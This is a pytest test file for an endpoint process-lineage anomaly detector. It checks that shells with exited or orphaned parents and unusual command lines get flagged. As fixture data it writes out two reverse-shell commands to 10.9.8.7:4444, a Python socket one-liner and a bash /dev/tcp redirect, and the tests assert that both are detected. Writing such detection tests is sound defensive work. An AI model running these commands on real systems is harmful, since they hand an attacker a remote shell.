"""Class 1: lineage. A parent that exited is still named; an orphaned shell is news; unusual command lines are news."""
import pytest

from tests import fleet
from tests.axon import demo_stories as stories

POWERSHELL = {"name": "powershell.exe", "exe": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
              "username": "ana"}
REPORT = "python3 /opt/ci/report.py --daily"
SOCKET = "python3 -c \"import socket,subprocess,os;s=socket.socket();s.connect(('10.9.8.7',4444));os.dup2(s.fileno(),0)\""


def extra(host, hour, rng):
    """The build host: a login shell now and then, and a reporting script from cron."""
    if host != "build-01":
        return []
    rows = [{"name": "python3", "exe": "/usr/bin/python3", "username": "builder", "parent": "cron", "cmdline": REPORT}]
    if hour % 2 == 0:
        rows.append({"name": "bash", "exe": "/usr/bin/bash", "username": "builder", "parent": "sshd", "cmdline": "-bash"})
    return rows


@pytest.fixture
def trained(db):
    stories.history(extra)
    assert fleet.train().status == "succeeded"


@pytest.mark.clock
@pytest.mark.django_db
def test_a_shell_whose_office_parent_exited_is_named_after_it(trained):
    before = stories.snapshot("laptop-ana", [], seconds_ago=300)
    outlook = stories.pid_of(before, "OUTLOOK.EXE")
    after = stories.snapshot("laptop-ana", [{**POWERSHELL, "ppid": outlook, "cmdline": "powershell.exe -NoLogo"}],
                             without=("OUTLOOK.EXE",))
    results = fleet.ingest([before, after])
    found = stories.flagged(results)
    assert set(found) == {"powershell.exe"}
    assert "parent outlook.exe exited; powershell.exe usually starts from explorer.exe" in found["powershell.exe"]


@pytest.mark.clock
@pytest.mark.django_db
def test_a_shell_whose_usual_parent_restarted_is_not_news(trained):
    before = stories.snapshot("laptop-ana", [], seconds_ago=300)
    old_explorer = stories.pid_of(before, "explorer.exe")
    after = stories.snapshot("laptop-ana", [{**POWERSHELL, "ppid": old_explorer}], seed=4)
    after["processes"] = [{**p, "pid": p["pid"] + 7} if p["name"] == "explorer.exe" else p for p in after["processes"]]
    assert stories.flagged(fleet.ingest([before, after])) == {}


@pytest.mark.clock
@pytest.mark.django_db
def test_an_orphaned_shell_is_news_and_a_login_shell_is_not(trained):
    results = fleet.ingest([stories.snapshot("build-01", [
        {"name": "bash", "exe": "/usr/bin/bash", "username": "builder", "parent": "sshd", "cmdline": "-bash"},
        {"name": "bash", "exe": "/usr/bin/bash", "username": "builder", "ppid": 48213, "cmdline": "-bash"},
    ])])
    found = [a for r in results for a in r["anomalies"]]
    assert [a["name"] for a in found] == ["bash"]
    assert any(r.startswith("orphaned: the parent of bash exited") for r in found[0]["reasons"])


@pytest.mark.clock
@pytest.mark.django_db
def test_unusual_command_lines_are_news_and_usual_ones_are_not(trained):
    results = fleet.ingest([
        stories.snapshot("build-01", [
            {"name": "python3", "exe": "/usr/bin/python3", "username": "builder", "parent": "cron", "cmdline": SOCKET},
            {"name": "bash", "exe": "/usr/bin/bash", "username": "builder", "parent": "sshd",
             "cmdline": "bash -c 'bash -i >& /dev/tcp/10.9.8.7/4444 0>&1'"},
        ]),
        stories.snapshot("build-01", [
            {"name": "python3", "exe": "/usr/bin/python3", "username": "builder", "parent": "cron",
             "cmdline": "python3 /opt/ci/report.py --daily"},
            {"name": "bash", "exe": "/usr/bin/bash", "username": "builder", "parent": "sshd", "cmdline": "-bash"},
        ], seconds_ago=60),
    ])
    first, second = results
    reasons = {a["name"]: a["reasons"] for a in first["anomalies"]}
    assert set(reasons) == {"python3", "bash"}
    assert any(r.startswith("unusual command line for python3: ") and "socket" in r for r in reasons["python3"])
    assert any("/dev/tcp" in r for r in reasons["bash"])
    assert second["anomalies"] == []


@pytest.mark.clock
@pytest.mark.django_db
def test_a_long_lived_orphan_keeps_its_parents_name(trained):
    before = stories.snapshot("laptop-ana", [], seconds_ago=150 * 60)
    old_explorer = stories.pid_of(before, "explorer.exe")

    def later(seconds_ago):
        payload = stories.snapshot("laptop-ana", [{**POWERSHELL, "ppid": old_explorer, "pid": 31337}],
                                   seconds_ago=seconds_ago)
        payload["processes"] = [{**p, "pid": p["pid"] + 7} if p["name"] == "explorer.exe" else p
                                for p in payload["processes"]]
        return payload

    # The last snapshot is more than two hours after the old explorer was seen: its child still knows it.
    assert stories.flagged(fleet.ingest([before, later(100 * 60)])) == {}
    assert stories.flagged(fleet.ingest([later(5)])) == {}
